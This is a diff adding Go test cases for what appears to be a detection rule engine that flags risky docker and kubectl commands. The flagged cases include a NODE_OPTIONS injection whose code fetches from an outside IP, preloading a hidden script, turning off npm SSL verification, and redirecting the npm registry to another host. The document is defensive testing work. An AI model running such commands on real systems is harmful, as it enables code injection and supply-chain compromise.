@@ -356,3 +356,21 @@ func TestComposeHostAccess(t *testing.T) {
 		cmdCase(compose("notes.yml", "    privileged: true\n"), false),
 	})
 }
+
+func TestWorkloadEnvironment(t *testing.T) {
+	runRuleCases(t, "persistence.ld-preload", []ruleCase{
+		cmdCase(`kubectl -n prod set env deploy/api NODE_OPTIONS='--import=data:text/javascript,fetch("http://203.0.113.93/e")'`, true),
+		cmdCase("docker run --rm -e NODE_OPTIONS='--require /tmp/.x.js' node:20 node app.js", true),
+		cmdCase("kubectl -n prod set env deploy/api NODE_OPTIONS=--max-old-space-size=4096", false),
+		cmdCase("docker run --rm -e NODE_ENV=production app:dev", false),
+	})
+	runRuleCases(t, "supply-chain.verification-off", []ruleCase{
+		cmdCase(`docker run --rm -e npm_config_strict_ssl=false -v "$PWD":/app -w /app node:20 npm install`, true),
+		cmdCase(`docker run --rm -e npm_config_loglevel=warn node:20 npm ci`, false),
+	})
+	runRuleCases(t, "supply-chain.package-source", []ruleCase{
+		cmdCase("docker run --rm --add-host=registry.npmjs.org:203.0.113.147 node:20 npm install", true),
+		cmdCase("docker run --rm --add-host=host.docker.internal:host-gateway app:dev", false),
+		cmdCase("docker run --rm --add-host db.local:10.0.0.5 app:dev", false),
+	})
+}
